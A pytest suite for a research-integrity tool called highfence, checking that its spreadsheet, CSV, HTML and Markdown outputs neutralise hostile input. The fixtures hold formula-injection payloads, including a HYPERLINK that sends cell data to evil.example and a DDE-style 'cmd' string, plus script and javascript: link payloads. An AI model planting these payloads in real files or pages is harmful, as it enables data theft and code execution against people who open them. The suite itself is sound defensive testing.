"""Hostile strings from sources, rosters, disclosures and analysts, replayed on a throw-away copy of the demo store:
formulas in every spreadsheet and CSV highfence writes, script links in HTML reports, Markdown and HTML in
Markdown reports and Prefect artifacts, and an ORCID record whose organisation identifier is a script."""

import csv
import json

import duckdb
import openpyxl
import pytest

from highfence import store
from highfence.cli import main
from highfence.reports.build import build
from highfence.reports.render import write

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [f"{p}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" if p in "=+-@" else f"{p}=1+1" for p in PREFIXES]
MARKUP = "**<script>alert(1)</script>** [x](javascript:alert(2)) ![i](javascript:alert(3))"


@pytest.fixture
def hostile(demo_store):
    """The demo store with what hostile sources would have put in it: names and entry names that are formulas or
    markup, script links as ROR ids, source URLs and list URLs."""
    db = demo_store.db
    with duckdb.connect(str(db)) as con:
        obs = [r[0] for r in con.execute("""SELECT DISTINCT o.observation_id FROM observations o JOIN findings f
                                            USING (observation_id) WHERE f.subject_id = 'R-0002' ORDER BY 1""").fetchall()]
        assert len(obs) >= 2
        for i, oid in enumerate(obs):
            con.execute("UPDATE observations SET observed_name = ?, observed_ror = 'javascript:alert(5)', "
                        "source_url = 'javascript:alert(6)' WHERE observation_id = ?",
                        [FORMULAS[(i - 1) % len(FORMULAS)] if i else MARKUP, oid])
        con.execute("UPDATE subjects SET name = ? WHERE subject_id = 'R-0002'", [FORMULAS[0]])
        con.execute("UPDATE findings SET entry_name = ?, explanation = ? WHERE subject_id = 'R-0002'",
                    [FORMULAS[2], FORMULAS[3]])
        con.execute("UPDATE disclosure_findings SET observed_name = ?, explanation = ?", [FORMULAS[4], FORMULAS[5]])
        con.execute("UPDATE list_snapshots SET source_url = 'data:text/html,<script>alert(7)</script>'")
        fid = con.execute("SELECT finding_id FROM findings WHERE subject_id = 'R-0002' LIMIT 1").fetchall()[0][0]
    # an analyst's reason is free text: it may look like a formula too (the name of who decided may not)
    assert main(["--db", str(db), "review", fid, "--decision", "dismiss", "--reason", FORMULAS[1],
                 "--by", "analyst"]) == 0
    return demo_store


def _formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(PREFIXES)


@pytest.mark.parametrize("kind, ident", [("researcher", "R-0002"), ("roster", None)])
def test_xlsx_report_cells_are_text_never_formulas(hostile, tmp_path, kind, ident):
    with store.reader(hostile.db) as con:
        path = write(build(con, kind, ident), "xlsx", tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if _formula_like(c.value)]
    # the attack is there, and held (the roster report has no subject names, where the "=" went)
    assert {c.value[0] for c in risky} >= ({"=", "+", "-", "@"} if kind == "researcher" else {"+", "-", "@"})
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    if kind == "researcher":
        assert len(risky) >= 9  # the issue counted 9 live formulas in one researcher report


def _csv_cells(path):
    with open(path, encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _check_csv(cells):
    assert not [c for c in cells if _formula_like(c)], "a CSV cell starts like a formula"
    quoted = [c for c in cells if c.startswith("'") and _formula_like(c[1:])]
    assert quoted, "the hostile values should be in the CSV, quoted"
    return quoted


def test_findings_export_csv_quotes_formulas(hostile, tmp_path, capsys):
    out = tmp_path / "export.csv"
    assert main(["--db", str(hostile.db), "findings", "export", "--out", str(out)]) == 0
    quoted = _check_csv(_csv_cells(out))
    assert {c[1] for c in quoted} >= {"=", "-", "\t"}
    # JSON is data, not a spreadsheet: it keeps the values as they are
    capsys.readouterr()
    assert main(["--db", str(hostile.db), "findings", "export", "--format", "json"]) == 0
    assert any(r["observed_name"] == FORMULAS[4] for r in json.loads(capsys.readouterr().out))


def test_demo_findings_csv_quotes_formulas(hostile, tmp_path):
    from highfence.flows.demo import export_findings

    _check_csv(_csv_cells(export_findings(hostile.db, tmp_path / "findings.csv")))


def test_match_output_csv_quotes_formulas(hostile, tmp_path, capsys):
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "affiliation"])
        for i, p in enumerate(PREFIXES):
            w.writerow([f"{p}cmd|' /C calc'!A{i}", "Harbin Institute of Technology, Harbin, China"])
    out = tmp_path / "out.csv"
    assert main(["--db", str(hostile.db), "match", "--input", str(src), "--output", str(out)]) == 0
    quoted = _check_csv(_csv_cells(out))
    assert {c[1] for c in quoted} == {"=", "+", "-", "@"}  # (the reader strips ids: a leading tab or CR goes)


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_html_report_never_links_a_script(hostile, tmp_path, lang):
    with store.reader(hostile.db) as con:
        html = write(build(con, "researcher", "R-0002", lang), "html", tmp_path / "r.html").read_text("utf-8")
    assert "&lt;script&gt;alert(1)" in html  # the hostile record is shown, as text...
    for bad in ('href="javascript:', 'href="data:', "href='javascript:", "<script>"):
        assert bad not in html.lower()  # ...but never as a live link or a script
    assert 'href="https://' in html  # real links are still links


def test_ror_link_needs_a_ror_id():
    from highfence.reports.links import ror_href, safe_href

    assert ror_href("https://ror.org/01yqg2h08") == "https://ror.org/01yqg2h08"
    for bad in ("javascript:alert(5)", "https://ror.org/01yqg2h08/../x", "https://ror.org/0lyqg2h08",
                "https://evil.example/01yqg2h08", None, 5):
        assert ror_href(bad) is None
    for bad in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
                "data:text/html,x", "vbscript:x", "//evil.example/x", "https:///x", 'https://x.example/"onmouseover="'):
        assert safe_href(bad) is None, bad
    assert safe_href("mailto:office@example.org") is None
    assert safe_href("mailto:office@example.org", ("mailto",)) == "mailto:office@example.org"


def test_orcid_organisation_identifier_must_be_a_ror_id():
    from highfence.connectors.orcid import observations_from_record

    def record(ident):
        org = {"name": "Some University", "disambiguated-organization": {
            "disambiguation-source": "ROR", "disambiguated-organization-identifier": ident}}
        return {"activities-summary": {"employments": {"affiliation-group": [
            {"summaries": [{"employment-summary": {"organization": org, "path": "/0000/employment/1"}}]}]}}}

    assert observations_from_record(record("javascript:alert(5)"), "R1")[0].observed_ror is None
    assert observations_from_record(record("https://ror.org/01yqg2h08"), "R1")[0].observed_ror == \
        "https://ror.org/01yqg2h08"
    assert observations_from_record(record("01yqg2h08"), "R1")[0].observed_ror == "https://ror.org/01yqg2h08"


def _check_markdown(text):
    assert "<script" not in text.lower()
    assert "](javascript:" not in text and "**<" not in text
    assert "&lt;script&gt;" in text  # the hostile value is shown, as text


def test_markdown_report_escapes_markdown_and_html(hostile, tmp_path):
    with store.reader(hostile.db) as con:
        for kind, ident in (("researcher", "R-0002"), ("roster", None)):
            _check_markdown(write(build(con, kind, ident), "md", tmp_path / f"{kind}.md").read_text("utf-8"))


def test_run_summary_artifact_escapes_markdown_and_html(hostile):
    from highfence.flows.deploy import changes_summary
    from highfence.reports.markdown import md_text

    text, n = changes_summary(hostile.db, hostile.result["screening"]["run_id"])
    assert n
    _check_markdown(text)
    assert md_text("a|b") == "a\\|b" and md_text("# x") == "\\# x" and md_text("1. x") == "1\\. x"
